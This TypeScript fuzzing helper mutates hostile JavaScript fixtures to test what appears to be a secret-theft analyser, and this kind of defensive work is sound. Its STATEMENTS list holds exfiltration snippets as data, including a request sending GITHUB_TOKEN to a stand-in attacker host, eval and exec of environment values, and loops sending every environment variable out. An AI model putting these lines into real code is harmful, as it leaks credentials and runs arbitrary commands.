// A small, deterministic mutator over the fixture sources, for the analyser fuzz test. Input i of
// seed s is always the same string, so a failure found in CI is reproduced with the seed alone.
//
// Mutations work on tokens (a rough lexer: whitespace, comments, strings, names, numbers,
// punctuators): delete, duplicate, swap, replace with a JS keyword or punctuator, splice in a piece
// of another file, wrap in nesting, truncate, insert random bytes or hostile characters. A few
// inputs are random bytes decoded as UTF-8, as read-source.ts would decode a binary file that
// slipped past the binary sniff.
import fs from 'node:fs';
import path from 'node:path';
import { fixture } from '../helpers.js';
import { prng } from './tree.js';

const TOKEN = /\s+|\/\/[^\n]*|\/\*[\s\S]*?\*\/|"(?:\\.|[^"\\\n])*"|'(?:\\.|[^'\\\n])*'|`(?:\\.|[^`\\])*`|[A-Za-z_$][\w$]*|\d[\w.]*|[^\s\w]/g;

/** Tokens worth dropping in: the syntax the analyser reasons about, and syntax that trips parsers. */
const DICTIONARY = [
  'process', 'env', '.', '?.', '[', ']', '(', ')', '{', '}', '=>', '...', ',', ';', '=', '+', '`', '${',
  'require', 'import', 'export', 'default', 'from', 'eval', 'Function', 'new', 'with', 'delete', 'typeof',
  'async', 'await', 'yield', 'function*', 'class', 'extends', 'super', 'this', 'arguments', 'globalThis',
  'global', 'module', 'exports', 'Reflect', 'Object', 'keys', 'entries', 'JSON', 'stringify', 'Buffer',
  'from', "'base64'", 'child_process', "'https'", "require('https')", 'process.env', 'process["env"]',
  "process.env['NPM_' + 'TOKEN']", '#x', 'static', 'get', 'set', 'let', 'var', 'const', 'if', 'else',
  'for', 'in', 'of', 'while', 'return', 'throw', 'try', 'catch', 'finally', 'switch', 'case', 'break',
  'null', 'undefined', '0x1F', '1e309', '9007199254740993n', '/re/gu', '<!--', '-->', '#!', '\\u0070',
  '\u2028', '\u2029', '\ufeff', '\u202e', '\x1b[31m', '\x00', '\ud800', '\udfff', '\u0085', '\u009b',
];

const HOSTILE_CHARS = ['\x1b', '\x07', '\x00', '\r', '\n', '\u2028', '\u202e', '\u2066', '\u200b', '\ud83d', '\ude00', '\ufffd', '\u0085', '\u009b', '\\', '"', "'", '`', '$', '{', '}', '/', '*'];

/** Names the analyser gives meaning to, to rename identifiers into. */
const NAMES = [
  'process', 'env', 'require', 'module', 'exports', 'global', 'globalThis', 'window', 'self', 'eval',
  'Function', 'Reflect', 'Object', 'JSON', 'Buffer', 'fetch', 'XMLHttpRequest', 'WebSocket', 'spawn',
  'exec', 'execSync', 'request', 'get', 'post', 'write', 'end', 'keys', 'entries', 'assign', 'apply',
  'call', 'bind', 'constructor', 'prototype', '__proto__', 'arguments', 'undefined', 'NaN', 'x',
];

/** Statements dropped in at line starts: the ways to reach process.env and sinks, and odd syntax. */
const STATEMENTS = [
  'process.env[`${a}_TOKEN`];',
  "const { env: { NPM_TOKEN: t, ...rest } } = process;",
  "eval(process.env.PAYLOAD);",
  "require('https').get('https://x.attacker.invalid/' + process.env.GITHUB_TOKEN);",
  "Object.keys(process.env).forEach((k) => fetch(k));",
  "new Function('return process')().env.Z;",
  "globalThis['pro' + 'cess']['e' + 'nv'].W;",
  "import('child_process').then((m) => m.exec(process.env.CMD));",
  "require(process.env.PLUGIN);",
  "const e = process.env; for (const k in e) send(k, e[k]);",
  "JSON.stringify(process.env);",
  "process.env.NODE_ENV = 'production';",
  "Reflect.get(process, 'env')[name];",
  "(0, eval)('process').env.X;",
  "with (process) env.HOME;",
  "label: for (;;) { break label; }",
  "class A { #p = process.env.PRIV; static { this.s = process.env.STATIC; } }",
  "async function* g() { yield* await process.env.ASYNC; }",
  "a ??= process.env.NULLISH; b ||= c?.d?.[e]?.(f);",
  "const re = /[\\u{1F600}-\\u{1F64F}]/u;",
  "`${`${`${process.env.NESTED}`}`}`;",
  "['CI', 'BUILD'].some((k) => process.env[k]);",
];

/** Constructs that nest: wrapped around a token thousands of times they reach any stack's end. */
const DEEP_WRAPS = [
  ['(', ')'], ['[', ']'], ['{a:', '}'], ['(function(){return ', '})()'], ['()=>(', ')'], ['!', ''], ['new ', ''],
  ['`${', '}`'], ['x?', ':y'], ['a=', ''], ['f(', ')'], ['', '.on(x)'], ['', '[0]'], ['', '()'], ['async()=>await ', ''],
  ['class extends(', '){}'], ['{let a=', '}'], ['(a,', ')'], ['-', ''], ['typeof ', ''],
] as const;

/** A string literal holding hostile characters, raw or escaped, in any of the three quote styles. */
function hostileString(next: () => number, pick: <T>(xs: readonly T[]) => T): string {
  const q = pick(["'", '"', '`'] as const);
  let body = '';
  for (let i = 1 + (next() % 12); i > 0; i--) {
    body += pick(['\\x1b[31m', '\\u202e', '\\n', '\\r', '\\0', '\\u{10FFFF}', '\\ud800', 'NPM_TOKEN', '\x1b', '\u202e', '\u2028', '\u200b', '\u0085', 'A', '_', ' ', '%0A', '::error::']);
  }
  return q + body + q;
}

export interface Corpus {
  /** file label (fixture-relative path) and its text, capped. */
  files: { name: string; text: string }[];
}

/** Every committed .js/.cjs/.mjs file of the attack, traps and hostile trees, each capped at 24 KB. */
export function loadCorpus(): Corpus {
  const files: { name: string; text: string }[] = [];
  const walk = (dir: string): void => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile() && /\.[cm]?js$/.test(e.name)) {
        files.push({ name: path.relative(fixture(), p), text: fs.readFileSync(p, 'utf8').slice(0, 24 * 1024) });
      }
    }
  };
  for (const tree of ['attack', 'traps', 'hostile']) walk(fixture(tree));
  return { files };
}

export interface FuzzInput {
  /** what was done, for the failure message. */
  recipe: string[];
  code: string;
  /** false: skip the prefilter, so the parse and detectors always run. */
  prefilter: boolean;
}

/** Input number `index` of the run with `seed`. */
export function fuzzInput(corpus: Corpus, seed: number, index: number): FuzzInput {
  const next = prng((seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0);
  next(); // decorrelate neighbouring indexes
  const pick = <T>(xs: readonly T[]): T => xs[next() % xs.length];
  const recipe: string[] = [];
  const prefilter = next() % 4 === 0; // mostly exercise the full parse and walk

  if (next() % 25 === 0) {
    const bytes = Buffer.alloc(next() % 4096);
    for (let i = 0; i < bytes.length; i++) bytes[i] = next() & 0xff;
    recipe.push(`random ${bytes.length} bytes decoded as UTF-8`);
    return { recipe, code: bytes.toString('utf8'), prefilter };
  }

  const base = pick(corpus.files);
  recipe.push(`from ${base.name}`);
  let tokens: string[] = [...(base.text.match(TOKEN) ?? [])];
  /** index of a random token of a kind, or -1. */
  const find = (re: RegExp): number => {
    const idx: number[] = [];
    tokens.forEach((t, i) => re.test(t) && idx.push(i));
    return idx.length ? idx[next() % idx.length] : -1;
  };
  const lineStarts = (): number[] => {
    const out = [0];
    tokens.forEach((t, i) => t.includes('\n') && out.push(i + 1));
    return out;
  };
  // One input in a hundred: a token wrapped thousands deep, past the main thread's stack and
  // sometimes a worker's, so stack overflows hit the parser and the walker at every kind of node.
  if (next() % 100 === 0) {
    const depth = 1000 + (next() % 20_000);
    const [open, close] = pick(DEEP_WRAPS);
    const i = tokens.findIndex((t) => /^process$|^require$/.test(t));
    const at = i >= 0 ? i : tokens.length ? next() % tokens.length : 0;
    recipe.push(`wrap token ${at} in ${depth} x ${open}…${close}`);
    tokens.splice(at, 1, open.repeat(depth) + (tokens[at] ?? 'x') + close.repeat(depth));
    return { recipe, code: tokens.join(''), prefilter };
  }
  // Mostly one mutation, so most inputs still parse and the detectors see them.
  const rounds = next() % 3 === 0 ? 2 + (next() % 3) : 1;
  for (let r = 0; r < rounds; r++) {
    const n = tokens.length;
    const at = n ? next() % n : 0;
    const len = 1 + (next() % 5);
    // three in four mutations keep the syntax; the rest break it
    switch (next() % 4 === 0 ? 7 + (next() % 9) : next() % 7) {
      // ---- mutations that usually keep the file parseable
      case 0:
      case 1: {
        const i = find(/^[A-Za-z_$]/);
        const word = next() % 2 ? pick(NAMES) : tokens[find(/^[A-Za-z_$]/)] ?? 'x';
        recipe.push(`rename token ${i} to ${word}`);
        if (i >= 0) tokens[i] = word;
        break;
      }
      case 2: {
        const i = find(/^['"`]/);
        const lit = hostileString(next, pick);
        recipe.push(`replace string ${i} with ${JSON.stringify(lit)}`);
        if (i >= 0) tokens[i] = lit;
        break;
      }
      case 3: {
        const i = find(/^[A-Za-z_$'"`\d]/);
        const depth = next() % 20 === 0 ? 3000 : 1 + (next() % 300);
        const [open, close] = pick([['(', ')'], ['[', ']'], ['[[', '][0]][0]'], ['!', ''], ['-', ''], ['void ', ''], ['(0,', ')'], ['`${', '}`']] as const);
        recipe.push(`wrap token ${i} in ${depth} x ${open}…${close}`);
        if (i >= 0) tokens[i] = open.repeat(depth) + tokens[i] + close.repeat(depth);
        break;
      }
      case 4: {
        const starts = lineStarts();
        const line = starts[next() % starts.length];
        const stmt = pick(STATEMENTS);
        recipe.push(`insert statement ${JSON.stringify(stmt)} at line token ${line}`);
        tokens.splice(line, 0, stmt, '\n');
        break;
      }
      case 5: {
        const starts = lineStarts();
        const a = next() % starts.length;
        const b = Math.min(starts.length - 1, a + 1 + (next() % 3));
        const from = starts[a];
        const to = b > a ? starts[b] : tokens.length;
        const op = pick(['delete', 'duplicate'] as const);
        recipe.push(`${op} lines ${a}..${b}`);
        if (op === 'delete') tokens.splice(from, to - from);
        else tokens.splice(from, 0, ...tokens.slice(from, to));
        break;
      }
      case 6: {
        const i = find(/^\d/);
        const num = pick(['0', '-1', '1e309', '0x7fffffff', '9007199254740993', '0.1', 'NaN', '1n', '0b1', '0o7']);
        recipe.push(`replace number ${i} with ${num}`);
        if (i >= 0) tokens[i] = num;
        break;
      }
      // ---- mutations that usually break it
      case 7:
        recipe.push(`delete ${len} tokens at ${at}`);
        tokens.splice(at, len);
        break;
      case 8:
        recipe.push(`duplicate ${len} tokens at ${at}`);
        tokens.splice(at, 0, ...tokens.slice(at, at + len));
        break;
      case 9: {
        const other = n ? next() % n : 0;
        recipe.push(`swap tokens ${at} and ${other}`);
        if (n) [tokens[at], tokens[other]] = [tokens[other], tokens[at]];
        break;
      }
      case 10: {
        const word = pick(DICTIONARY);
        recipe.push(`insert ${JSON.stringify(word)} at ${at}`);
        tokens.splice(at, 0, word);
        break;
      }
      case 11: {
        const donor = pick(corpus.files);
        const dt = donor.text.match(TOKEN) ?? [];
        const from = dt.length ? next() % dt.length : 0;
        const count = 1 + (next() % 40);
        recipe.push(`splice ${count} tokens of ${donor.name} at ${at}`);
        tokens.splice(at, 0, ...dt.slice(from, from + count));
        break;
      }
      case 12: {
        const depth = 1 + (next() % 200);
        const [open, close] = pick([['(', ')'], ['[', ']'], ['{', '}'], ['{a:', '}'], ['()=>(', ')']] as const);
        recipe.push(`wrap tokens ${at}..${at + len} in ${depth} x ${open}${close}`);
        tokens.splice(at, 0, open.repeat(depth));
        tokens.splice(Math.min(tokens.length, at + 1 + len), 0, close.repeat(depth));
        break;
      }
      case 13: {
        const cut = next() % (base.text.length + 1);
        recipe.push(`truncate at ${cut} chars`);
        tokens = [...(tokens.join('').slice(0, cut).match(TOKEN) ?? [])];
        break;
      }
      case 14: {
        let junk = '';
        for (let i = 1 + (next() % 8); i > 0; i--) junk += pick(HOSTILE_CHARS);
        recipe.push(`insert ${JSON.stringify(junk)} at ${at}`);
        tokens.splice(at, 0, junk);
        break;
      }
      default: {
        let junk = '';
        for (let i = 1 + (next() % 16); i > 0; i--) junk += String.fromCharCode(next() % 0x3000);
        recipe.push(`insert random code units at ${at}`);
        tokens.splice(at, 0, junk);
        break;
      }
    }
  }
  return { recipe, code: tokens.join(''), prefilter };
}
